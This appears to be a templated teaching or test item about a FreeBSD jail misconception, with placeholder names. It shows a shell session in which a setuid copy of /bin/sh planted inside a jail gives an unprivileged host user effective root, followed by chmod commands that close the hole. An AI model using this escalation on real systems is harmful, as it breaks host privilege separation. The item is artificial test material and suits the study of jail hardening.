fails: nosuid both harmless
misconception: A bit that was taken away stays away.

  $ jexec {site} cp /bin/sh /var/tmp/{gift}
  $ jexec {site} chmod 4755 /var/tmp/{gift}
  $ su {user} -c '/usr/jails/{site}/var/tmp/{gift} -c id'
  uid=1002({user}) gid=1002({user}) euid=0(root) groups=1002({user})
  $ chmod 755 /usr/jails/{site}/var/tmp/{gift}
  $ chmod 700 /usr/jails
